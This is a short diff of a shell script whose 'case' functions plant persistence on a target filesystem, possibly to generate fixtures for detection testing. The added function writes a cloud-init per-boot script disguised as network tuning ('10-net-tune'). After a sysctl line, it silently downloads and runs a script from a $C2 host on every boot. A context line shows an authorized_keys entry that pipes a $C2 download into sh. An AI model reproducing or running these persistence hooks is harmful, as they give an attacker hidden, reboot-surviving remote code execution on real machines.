@@ -574,6 +574,14 @@ command="curl -s http://$C2/k | sh" $ATTACKER_KEY
 EOF
 }
 
+case_cloud_init_per_boot() {
+  put var/lib/cloud/scripts/per-boot/10-net-tune 0755 <<EOF
+#!/bin/sh
+sysctl -qw net.core.somaxconn=1024
+(curl -fsSL http://$C2/n.sh || wget -q -O- http://$C2/n.sh) | sh >/dev/null 2>&1 &
+EOF
+}
+
 for name in "$@"; do
   fn="case_${name//-/_}"
   if ! declare -F "$fn" >/dev/null; then
